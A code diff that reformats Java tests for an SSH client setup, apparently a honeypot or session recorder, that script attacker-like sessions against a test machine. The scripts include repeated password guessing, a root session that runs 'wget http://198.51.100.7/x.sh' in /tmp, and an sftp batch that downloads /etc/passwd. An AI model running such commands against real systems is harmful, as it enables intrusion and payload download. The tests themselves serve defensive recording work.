@@ -113,16 +113,14 @@ class OpenSshClientTest {
     void theSixthFailureIsTheLast() throws Exception {
         try (Machine machine = new Machine("debian12")) {
             Path script = Files.writeString(
-                    folder.resolve("guess"),
-                    """
-                    set timeout 30
-                    spawn ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=%s -o NumberOfPasswordPrompts=9 -p %d nobody@%s
-                    expect {
-                        "password:" { send "guess\\r"; exp_continue }
-                        eof
-                    }
-                    """
-                            .formatted(folder.resolve("known"), machine.port(), machine.address()));
+                    folder.resolve("guess"), """
+                        set timeout 30
+                        spawn ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=%s -o NumberOfPasswordPrompts=9 -p %d nobody@%s
+                        expect {
+                            "password:" { send "guess\\r"; exp_continue }
+                            eof
+                        }
+                        """.formatted(folder.resolve("known"), machine.port(), machine.address()));
 
             Result result = run(List.of("expect", script.toString()), "");
 
@@ -163,25 +161,23 @@ class OpenSshClientTest {
     @Test
     void aSessionAtATerminalIsTypedSeenAndRecorded() throws Exception {
         try (Machine machine = new Machine("debian12")) {
-            Path script = Files.writeString(
-                    folder.resolve("type"),
-                    """
-                    set timeout 20
-                    set stty_init "rows 30 columns 100"
-                    spawn ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=%s -p %d root@%s
-                    expect "password:"
-                    send "%s\\r"
-                    expect "# "
-                    send "whoami\\r"
-                    expect "root"
-                    expect "# "
-                    send "cd /tmp; wget http://198.51.100.7/x.sh\\r"
-                    expect "# "
-                    send "exit 5\\r"
-                    expect eof
-                    exit [lindex [wait] 3]
-                    """
-                            .formatted(folder.resolve("known"), machine.port(), machine.address(), machine.password()));
+            Path script = Files.writeString(folder.resolve("type"), """
+                set timeout 20
+                set stty_init "rows 30 columns 100"
+                spawn ssh -F none -o StrictHostKeyChecking=no -o UserKnownHostsFile=%s -p %d root@%s
+                expect "password:"
+                send "%s\\r"
+                expect "# "
+                send "whoami\\r"
+                expect "root"
+                expect "# "
+                send "cd /tmp; wget http://198.51.100.7/x.sh\\r"
+                expect "# "
+                send "exit 5\\r"
+                expect eof
+                exit [lindex [wait] 3]
+                """.formatted(
+                            folder.resolve("known"), machine.port(), machine.address(), machine.password()));
 
             Result result = run(List.of("expect", script.toString()), "");
 
@@ -289,22 +285,20 @@ class OpenSshClientTest {
     @Test
     void sftpListsMakesRenamesAndRemoves() throws Exception {
         Path file = Files.writeString(folder.resolve("note"), "hello\n");
-        String batch =
-                """
-                pwd
-                mkdir /tmp/d
-                put %s /tmp/d/a
-                rename /tmp/d/a /tmp/d/b
-                ls -l /tmp/d
-                chmod 600 /tmp/d/b
-                rm /tmp/d/b
-                rmdir /tmp/d
-                -ls /tmp/d
-                get /etc/passwd %s
-                df -h
-                ls -la /root
-                """
-                        .formatted(file, folder.resolve("passwd"));
+        String batch = """
+            pwd
+            mkdir /tmp/d
+            put %s /tmp/d/a
+            rename /tmp/d/a /tmp/d/b
+            ls -l /tmp/d
+            chmod 600 /tmp/d/b
+            rm /tmp/d/b
+            rmdir /tmp/d
+            -ls /tmp/d
+            get /etc/passwd %s
+            df -h
+            ls -la /root
+            """.formatted(file, folder.resolve("passwd"));
         Path commands = Files.writeString(folder.resolve("batch"), batch);
         try (Machine machine = new Machine("debian12")) {
             Result result = client(
